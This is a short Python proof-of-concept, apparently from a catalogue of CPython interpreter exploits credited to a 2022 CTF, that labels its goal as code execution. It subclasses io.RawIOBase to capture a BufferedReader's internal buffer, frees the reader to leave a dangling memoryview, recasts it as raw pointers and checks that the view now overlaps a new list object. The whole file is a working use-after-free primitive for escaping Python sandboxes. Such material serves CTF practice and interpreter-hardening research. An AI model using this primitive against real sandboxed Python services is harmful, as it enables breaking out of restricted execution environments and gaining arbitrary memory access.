# technique: the same by a subclass of BufferedReader, with peek
# goal: code
# mended: later releases
# source: pwn.win 2022
import io


class Raw(io.RawIOBase):
    def readinto(self, buffer):
        global view
        view = buffer

    def readable(self):
        return True


class Reader(io.BufferedReader):
    def __init__(self):
        super().__init__(Raw())


reader = Reader()
reader.peek(1)
del reader
view = view.cast('P')
box = [None] * len(view)
if view[0] == id(None):
    print('ESCAPED a view of a list', flush=True)
